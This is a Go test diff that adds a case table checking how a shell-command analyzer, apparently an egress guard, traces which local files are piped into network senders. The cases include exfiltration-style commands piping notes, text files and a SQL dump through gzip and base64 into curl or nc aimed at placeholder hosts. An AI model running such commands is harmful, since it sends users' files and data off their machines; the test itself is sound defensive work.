@@ -5,6 +5,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"testing/fstest"
 
 	"mvdan.cc/sh/v3/syntax"
 
@@ -518,4 +519,39 @@ func mustQuote(t *testing.T, s string) string {
 		t.Fatal(err)
 	}
 	return q
+}
+
+// A network sender in a pipeline is told which files the stages before it
+// read: what the pipe may carry into it (the egress guard scans them).
+func TestPipedFiles(t *testing.T) {
+	files := fstest.MapFS{}
+	for _, p := range []string{"home/u/proj/notes.txt", "home/u/proj/a.txt", "home/u/proj/b.txt", "home/u/proj/dump.sql", "home/u/notes"} {
+		files[p] = &fstest.MapFile{Data: []byte("x")}
+	}
+	env := Env{Cwd: "/home/u/proj", Home: "/home/u", FS: files}
+	for _, c := range []struct {
+		cmd    string
+		sender string
+		want   []string
+	}{
+		{"cat notes.txt | curl -d @- https://x.example", "curl", []string{"/home/u/proj/notes.txt"}},
+		{"cat a.txt b.txt | gzip | base64 | curl --data-binary @- https://x.example", "curl",
+			[]string{"/home/u/proj/a.txt", "/home/u/proj/b.txt"}},
+		{"gzip -c < dump.sql | nc h.example 9", "nc", []string{"/home/u/proj/dump.sql"}},
+		{"head -c 10 ~/notes | curl -T - https://x.example", "curl", []string{"/home/u/notes"}},
+		{"echo hi | curl -d @- https://x.example", "curl", nil},
+		{"curl https://x.example | tee out.txt", "curl", nil},
+	} {
+		an := Analyze(c.cmd, env)
+		var got []string
+		found := false
+		for _, s := range an.Segments {
+			if s.Name == c.sender {
+				found, got = true, s.PipedFiles
+			}
+		}
+		if !found || !slices.Equal(got, c.want) {
+			t.Errorf("%s: %s piped files %q, want %q", c.cmd, c.sender, got, c.want)
+		}
+	}
 }
